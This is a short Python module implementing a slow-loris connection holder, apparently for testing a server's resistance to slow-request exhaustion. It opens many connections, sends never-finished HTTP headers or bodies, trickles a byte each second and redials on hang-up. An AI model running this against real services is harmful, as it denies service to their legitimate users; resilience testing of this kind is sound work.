"""A slow loris: many connections that say a little at a time, for ever, so that none is left for anybody else."""

import socket
import threading
from contextlib import suppress
from typing import Final, Self
from urllib.parse import urlsplit

_EVERY_SECONDS: Final = 1.0
_HEAD: Final = b"POST /sync/v1 HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
#: One body that never ends beside each head that never ends.
_BODY: Final = _HEAD + b"Content-Length: 100000\r\n\r\n"


class Loris:
    """Holds connections to an address open, and dials again when one is hung up on."""

    def __init__(self, url: str, connections: int) -> None:
        parts = urlsplit(url)
        self._target: Final = (parts.hostname or "", parts.port or 0)
        self._wanted: Final = connections
        self._held: Final[list[socket.socket]] = []
        self._stop: Final = threading.Event()
        self._thread: Final = threading.Thread(target=self._run, daemon=True)
        #: How often the server hung up.
        self.hung_up = 0

    def _run(self) -> None:
        while not self._stop.wait(_EVERY_SECONDS):
            self._trickle()
            self._dial()

    def _dial(self) -> None:
        while len(self._held) < self._wanted and not self._stop.is_set():
            try:
                made = socket.create_connection(self._target, 1)
                made.settimeout(1)
                made.sendall(_BODY if len(self._held) % 2 else _HEAD)
            except OSError:
                return
            self._held.append(made)

    def _trickle(self) -> None:
        for each in list(self._held):
            try:
                each.sendall(b"x")
                each.setblocking(False)
                try:
                    if each.recv(1) == b"":
                        raise ConnectionResetError
                finally:
                    each.settimeout(1)
            except BlockingIOError:
                continue
            except OSError:
                self.hung_up += 1
                self._held.remove(each)
                each.close()

    def __enter__(self) -> Self:
        self._dial()
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._stop.set()
        self._thread.join()
        for each in self._held:
            with suppress(OSError):
                each.close()
